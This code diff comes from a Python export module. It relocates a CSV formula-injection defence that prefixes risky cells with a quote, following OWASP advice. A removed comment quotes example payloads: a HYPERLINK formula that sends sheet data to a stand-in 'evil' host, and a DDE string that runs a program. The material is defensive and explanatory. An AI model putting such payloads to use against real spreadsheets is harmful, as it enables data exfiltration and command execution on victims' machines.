@@ -18,28 +18,11 @@ from lxml import etree
 
 from .. import urls
 from ..i18n import DEFAULT_LANG
+from ..text import neutralised
 from .format import Feed, Run, Writer
 from .words import say
 
 G_NS = "http://base.google.com/ns/1.0"
-
-
-# A spreadsheet (Excel, LibreOffice, Google Sheets) opening a CSV or TSV runs a cell starting with one of
-# these as a formula: `=HYPERLINK("http://evil/?"&A1)` sends the sheet's data away, `+1+cmd|...` (DDE) runs a
-# program. Record text is typed or imported by anyone, so every such cell is neutralised.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def neutralised(value: Any) -> Any:
-    """A text cell that a spreadsheet would read as a formula, made plain text the way OWASP recommends.
-
-    A single quote in front makes the spreadsheet show the text as typed (and is not shown by Excel);
-    the csv writer then quotes the cell and doubles its inner quotes where the format needs it. Numbers
-    are left alone: they are never negative here (prices, scores, stars), and a number is not a formula.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
 
 
 def table(delimiter: str = ",", cell: Callable[[Any], Any] | None = None) -> Writer:
